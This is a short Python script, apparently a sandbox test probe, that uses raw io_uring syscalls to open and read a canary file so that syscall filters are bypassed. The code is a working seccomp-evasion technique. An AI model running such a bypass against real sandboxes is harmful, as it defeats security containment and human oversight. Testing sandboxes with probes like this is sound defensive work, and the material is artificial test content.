# tries: opens and reads a file through io_uring, past every filter on system calls
# walls: private root, refused system calls
# canary: beside
# %%
import ctypes
import mmap
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER, OPENAT, READ, HERE = 425, 426, 18, 22, -100
told = bytearray(120)
ring = libc.syscall(SETUP, 4, (ctypes.c_char * 120).from_buffer(told))
if ring < 0:
    raise OSError(ctypes.get_errno(), "io_uring_setup")
entries, answers = struct.unpack_from("II", told)
sq, cq = struct.unpack_from("8I", told, 40), struct.unpack_from("8I", told, 80)
queue = mmap.mmap(ring, sq[6] + entries * 4 + 4096, offset=0)
done = mmap.mmap(ring, cq[5] + answers * 16 + 4096, offset=0x8000000)
asked = mmap.mmap(ring, entries * 64, offset=0x10000000)


def ask(code, descriptor, place, size):
    tail = struct.unpack_from("I", queue, sq[1])[0]
    at = tail & struct.unpack_from("I", queue, sq[2])[0]
    asked[at * 64 : at * 64 + 64] = struct.pack("BBHiQQI", code, 0, 0, descriptor, 0, place, size).ljust(64, b"\0")
    struct.pack_into("I", queue, sq[6] + at * 4, at)
    struct.pack_into("I", queue, sq[1], tail + 1)
    libc.syscall(ENTER, ring, 1, 1, 1, 0, 0)
    end, mask = (struct.unpack_from("I", done, cq[part])[0] for part in (1, 2))
    struct.pack_into("I", done, cq[0], end)
    return struct.unpack_from("Qi", done, cq[5] + ((end - 1) & mask) * 16)[1]


path, held = ctypes.create_string_buffer(b"@BESIDE@"), ctypes.create_string_buffer(200)
opened = ask(OPENAT, HERE, ctypes.addressof(path), 0)
print(opened, ask(READ, opened, ctypes.addressof(held), 200), held.value)
